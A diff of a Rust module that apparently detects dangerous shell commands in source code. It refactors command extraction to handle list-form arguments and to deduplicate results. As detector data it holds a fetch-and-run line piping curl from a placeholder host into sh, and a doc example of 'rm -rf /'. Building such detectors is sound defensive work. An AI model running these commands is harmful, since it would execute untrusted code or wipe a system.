@@ -5,6 +5,7 @@
 //! is supposed.
 
 use super::code_texts::delimited;
+use super::code_values::{listed_commands, loose_deeds, with_plain_lists};
 use super::spelling::quoted;
 use crate::programs::words;
 
@@ -20,8 +21,8 @@ const FETCHED_CODE: &str = "curl http://code.invalid | sh";
 
 /// The commands that do what code does.
 pub(super) fn deeds_in(code: &str) -> Vec<String> {
-    let code = code.replace('"', "'");
-    let mut all: Vec<String> = Vec::new();
+    let code = with_plain_lists(&code.replace('"', "'"));
+    let mut all: Vec<String> = loose_deeds(&code);
     for (name, command) in words::RUIN_CODE_DEEDS.iter().filter_map(|row| row.split_once(" = ")) {
         let (command, number) = match command.rsplit_once(' ') {
             Some((command, number)) if number.parse::<usize>().is_ok() => (command, number.parse().ok()),
@@ -76,8 +77,8 @@ pub(crate) fn runs_its_input(code: &str) -> bool {
 /// Texts of one word that a function hands to a shell: `os.system("reboot")`. Words in a list are the words of a command:
 /// `run(["rm", "-rf", "/"])`.
 pub(super) fn handed_to_shells(code: &str) -> Vec<String> {
-    let code = code.replace('"', "'");
-    let mut all = Vec::new();
+    let code = with_plain_lists(&code.replace('"', "'"));
+    let mut all = listed_commands(&code);
     for arguments in words::RUIN_CODE_SHELLS.iter().flat_map(|name| calls_of(name, &code)) {
         let mut command: Vec<String> = Vec::new();
         for argument in &arguments {
@@ -91,16 +92,21 @@ pub(super) fn handed_to_shells(code: &str) -> Vec<String> {
                 break;
             }
         }
-        if !command.is_empty() {
-            all.push(command.join(" "));
+        let command = command.join(" ");
+        if !command.is_empty() && !all.contains(&command) {
+            all.push(command);
         }
     }
     all
 }
 
+/// Whether a character may be in a name.
+pub(super) fn is_part(c: char) -> bool {
+    c.is_ascii_alphanumeric() || c == '_' || c == '$'
+}
+
 /// The arguments of each call of a function.
 fn calls_of<'c>(name: &str, code: &'c str) -> Vec<Vec<&'c str>> {
-    let is_part = |c: char| c.is_ascii_alphanumeric() || c == '_' || c == '$';
     let has_owner = name == "kill";
     let found = code.match_indices(name).filter_map(|(at, _)| {
         let before = code.get(..at)?.chars().next_back();
@@ -129,7 +135,7 @@ fn calls_of<'c>(name: &str, code: &'c str) -> Vec<Vec<&'c str>> {
 }
 
 /// Where a text ends at one of these signs, outside quotes and brackets.
-fn group_end(text: &str, ends: &[char]) -> usize {
+pub(super) fn group_end(text: &str, ends: &[char]) -> usize {
     let mut depth = 0_usize;
     let mut is_quoted = false;
     for (at, c) in text.char_indices() {
@@ -146,7 +152,7 @@ fn group_end(text: &str, ends: &[char]) -> usize {
 }
 
 /// The parts of a text between commas outside quotes and brackets.
-fn split(text: &str) -> Vec<&str> {
+pub(super) fn split(text: &str) -> Vec<&str> {
     let mut all = Vec::new();
     let mut rest = text;
     loop {
@@ -160,7 +166,7 @@ fn split(text: &str) -> Vec<&str> {
 }
 
 /// A command with what an argument names.
-fn done_to(command: &str, argument: &str) -> Option<String> {
+pub(super) fn done_to(command: &str, argument: &str) -> Option<String> {
     if command.starts_with("kill") {
         let number = argument.trim().parse::<i32>().ok()?;
         return Some(format!("{command} -- {number}"));
@@ -173,7 +179,7 @@ fn done_to(command: &str, argument: &str) -> Option<String> {
 }
 
 /// The place that an expression names, as a word for a shell. `None`: it can't be known.
-fn place(expression: &str) -> Option<String> {
+pub(super) fn place(expression: &str) -> Option<String> {
     let is_expanded = expression.contains("expand");
     let is_pattern = expression.contains("glob") || expression.contains("Dir[");
     let mut word = String::new();
